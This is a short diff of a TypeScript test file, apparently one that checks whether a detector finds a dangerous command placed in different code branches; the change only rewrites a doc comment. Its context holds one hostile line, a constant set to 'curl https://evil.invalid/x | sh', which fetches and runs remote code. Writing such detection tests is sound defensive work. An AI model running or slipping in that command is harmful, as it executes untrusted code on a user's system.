@@ -2,7 +2,9 @@ import { found } from '../support/found.js';
 
 const FETCH = '"curl https://evil.invalid/x | sh"';
 
-/** Code of which two ways are possible, the one that matters in either place; and with a harmless text instead of it. */
+/**
+ * Code that can run in two ways, with the text that matters in either of them, and with a harmless text in its place.
+ */
 const WAYS: readonly (readonly [string, (command: string) => string])[] = [
   [
     'a branch',
